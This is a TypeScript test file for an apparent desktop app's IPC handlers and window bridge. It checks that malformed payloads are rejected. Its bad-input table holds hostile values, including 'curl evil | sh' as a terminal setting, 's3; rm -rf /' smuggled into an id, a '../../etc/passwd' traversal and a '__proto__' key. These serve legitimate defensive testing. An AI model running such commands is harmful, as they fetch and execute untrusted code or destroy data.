import { describe, expect, it } from 'vitest';
import { INVOKE_CHANNELS, PUSH_CHANNELS, type InvokeName } from '../../shared/ipc.js';
import { createBridge, type BridgeTransport } from '../../main/app/bridge.js';
import type { CoreActions } from '../../main/app/core-actions.js';
import { createIpcHandlers, IpcPayloadError } from '../../main/app/ipc-handlers.js';
import { snapshotWith } from '../fixtures/snapshot-builder.js';

/** CoreActions that record what reached them. */
function recordingActions(): { actions: CoreActions; calls: [string, unknown][] } {
  const calls: [string, unknown][] = [];
  const view = { decision: 'nothing' as const, reason: 'r', sessions: [], scheduledFor: null };
  const record = <T>(name: string, request: unknown, result: T): Promise<T> => {
    calls.push([name, request]);
    return Promise.resolve(result);
  };
  const actions: CoreActions = {
    getSnapshot: () => record('getSnapshot', undefined, snapshotWith()),
    copyCompactCommand: (request) => record('copyCompactCommand', request, { command: '/compact x', brief: 'b' }),
    writeHandoff: (request) => record('writeHandoff', request, { path: '/tmp/h.md' }),
    exportCalendar: () => record('exportCalendar', undefined, { dir: '/c', files: [], events: 0 }),
    planNext: (request) => record('planNext', request, view),
    startQueued: (request) => record('startQueued', request, { started: true, message: 'ok' }),
    carryOutNext: (request) => record('carryOutNext', request, view),
    openPath: (request) => record('openPath', request, { opened: true }),
    getSettings: () => record('getSettings', undefined, {}),
    setSetting: (request) => record('setSetting', request, {}),
  };
  return { actions, calls };
}

describe('IPC handlers validate every payload before any action runs', () => {
  it('has one handler per invoke channel', () => {
    const handlers = createIpcHandlers(recordingActions().actions);
    expect(Object.keys(handlers).sort()).toEqual(Object.keys(INVOKE_CHANNELS).sort());
  });

  const good: [InvokeName, unknown, unknown][] = [
    ['getSnapshot', undefined, undefined],
    ['copyCompactCommand', undefined, {}],
    ['copyCompactCommand', { sessionId: '8c4e2f6a-1b3d-4c5e-9f70-a1b2c3d4e5f6' }, { sessionId: '8c4e2f6a-1b3d-4c5e-9f70-a1b2c3d4e5f6' }],
    ['writeHandoff', {}, {}],
    ['exportCalendar', undefined, undefined],
    ['planNext', { hours: 2 }, { hours: 2 }],
    ['carryOutNext', { hours: 0.5 }, { hours: 0.5 }],
    ['startQueued', { id: 's3' }, { id: 's3' }],
    ['openPath', { path: '/home/dana/.claude/calendar/sessions.ics' }, { path: '/home/dana/.claude/calendar/sessions.ics' }],
    ['openPath', { path: 'C:\\Users\\dana\\.claude\\handoffs\\a.md' }, { path: 'C:\\Users\\dana\\.claude\\handoffs\\a.md' }],
    ['getSettings', null, undefined],
    ['setSetting', { key: 'notifyQuota', value: 'false' }, { key: 'notifyQuota', value: 'false' }],
    ['setSetting', { key: 'plan', value: 'max5' }, { key: 'plan', value: 'max5' }],
    ['setSetting', { key: 'autoScheduleAtCritical', value: 'off' }, { key: 'autoScheduleAtCritical', value: 'off' }],
  ];

  it.each(good)('%s accepts %j', async (name, payload, passed) => {
    const { actions, calls } = recordingActions();
    await createIpcHandlers(actions)[name](payload);
    expect(calls).toEqual([[name, passed]]);
  });

  const bad: [InvokeName, unknown, RegExp][] = [
    ['getSnapshot', { anything: 1 }, /cco:get-snapshot: expected no payload/],
    ['exportCalendar', 'now', /cco:export-calendar: expected no payload, got "now"/],
    ['copyCompactCommand', { sessionId: '../../etc/passwd' }, /sessionId to be a Claude Code session id/],
    ['copyCompactCommand', { sessionId: 'a', extra: true }, /unknown key "extra"/],
    ['writeHandoff', 'abc', /expected nothing or \{ sessionId\?: string \}/],
    ['planNext', undefined, /cco:plan-next: expected \{ hours: number \}/],
    ['planNext', { hours: '3' }, /hours to be a number from 0.08 to 24, got "3"/],
    ['planNext', { hours: Number.NaN }, /hours to be a number/],
    ['carryOutNext', { hours: 25 }, /hours to be a number from 0.08 to 24, got 25/],
    ['carryOutNext', { hours: 0 }, /hours to be a number/],
    ['carryOutNext', [2], /expected \{ hours: number \}/],
    ['startQueued', { id: 's3; rm -rf /' }, /id to be a queued session id/],
    ['startQueued', { id: 3 }, /id to be a queued session id/],
    ['openPath', { path: 'relative/file.ics' }, /path to be an absolute file path/],
    ['openPath', { path: '' }, /path to be an absolute file path/],
    ['openPath', { path: '/tmp/a\0b' }, /path to be an absolute file path/],
    ['openPath', { path: 'https://example.com' }, /path to be an absolute file path/],
    ['setSetting', { key: 'plan' }, /value to be text/],
    ['setSetting', { key: '__proto__', value: 'x' }, /key to be a setting name/],
    ['setSetting', { key: 'plan', value: 'x'.repeat(5000) }, /value to be text/],
    ['setSetting', null, /cco:set-setting: expected \{ key: string, value: string \}/],
    // What cco executes is a person's choice at a terminal: the renderer never reaches it.
    ['setSetting', { key: 'terminal', value: '["sh","-c","curl evil | sh"]' }, /^cco:set-setting: terminal decides which program cco runs, so the app cannot change it: set it in a terminal with "cco config set terminal \.\.\." or edit the settings file$/],
    ['setSetting', { key: 'terminal', value: '' }, /cco:set-setting: terminal decides which program cco runs/],
    ['setSetting', { key: 'claudePath', value: '/tmp/evil' }, /^cco:set-setting: claudePath decides which program cco runs, so the app cannot change it/],
    ['setSetting', { key: 'autoStartAtReset', value: 'on' }, /^cco:set-setting: autoStartAtReset decides which program cco runs, so the app cannot change it/],
    ['setSetting', { key: 'fooBar', value: '1' }, /cco:set-setting: unknown setting "fooBar": expected one of plan, .*notifyQuota/],
  ];

  it.each(bad)('%s rejects %j', async (name, payload, message) => {
    const { actions, calls } = recordingActions();
    const attempt = createIpcHandlers(actions)[name](payload);
    await expect(attempt).rejects.toBeInstanceOf(IpcPayloadError);
    await expect(attempt).rejects.toThrow(message);
    expect(calls).toEqual([]);
  });

  it('a class instance is not a payload (only plain objects cross IPC)', async () => {
    class Hours {
      hours = 2;
    }
    await expect(createIpcHandlers(recordingActions().actions).planNext(new Hours())).rejects.toThrow(/expected \{ hours: number \}/);
  });
});

describe('the window.cco bridge', () => {
  function fakeTransport() {
    const invoked: [string, unknown[]][] = [];
    const listeners = new Map<string, Set<(event: unknown, ...args: unknown[]) => void>>();
    const transport: BridgeTransport = {
      invoke: (channel, ...args) => {
        invoked.push([channel, args]);
        return Promise.resolve({ channel });
      },
      on: (channel, listener) => listeners.set(channel, new Set([...(listeners.get(channel) ?? []), listener])),
      removeListener: (channel, listener) => listeners.get(channel)?.delete(listener),
    };
    const push = (channel: string, value: unknown): void => {
      for (const listener of listeners.get(channel) ?? []) listener({ sender: 'secret' }, value);
    };
    return { transport, invoked, push, listeners };
  }

  it('exposes exactly one named method per channel plus the two subscriptions', () => {
    const bridge = createBridge(fakeTransport().transport);
    expect(Object.keys(bridge).sort()).toEqual([...Object.keys(INVOKE_CHANNELS), 'onBanner', 'onSnapshot'].sort());
    expect(Object.values(bridge).every((value) => typeof value === 'function')).toBe(true);
  });

  it('sends the channel and only the named fields of the request', async () => {
    const { transport, invoked } = fakeTransport();
    const bridge = createBridge(transport);
    await bridge.getSnapshot();
    await bridge.planNext({ hours: 3, sneaky: true } as { hours: number });
    await bridge.copyCompactCommand();
    await bridge.copyCompactCommand({ sessionId: 'abc' });
    await bridge.setSetting({ key: 'plan', value: 'max5' });
    expect(invoked).toEqual([
      ['cco:get-snapshot', []],
      ['cco:plan-next', [{ hours: 3 }]],
      ['cco:copy-compact-command', []],
      ['cco:copy-compact-command', [{ sessionId: 'abc' }]],
      ['cco:set-setting', [{ key: 'plan', value: 'max5' }]],
    ]);
  });

  it('subscriptions hand the page the value only, never the IPC event, and unsubscribe', () => {
    const { transport, push, listeners } = fakeTransport();
    const bridge = createBridge(transport);
    const seen: unknown[][] = [];
    const stop = bridge.onSnapshot((...args: unknown[]) => seen.push(args));
    bridge.onBanner((...args: unknown[]) => seen.push(args));
    push(PUSH_CHANNELS.snapshot, { version: 1 });
    push(PUSH_CHANNELS.banner, { level: 'info', text: 'hi' });
    expect(seen).toEqual([[{ version: 1 }], [{ level: 'info', text: 'hi' }]]);
    stop();
    expect(listeners.get(PUSH_CHANNELS.snapshot)?.size).toBe(0);
  });
});
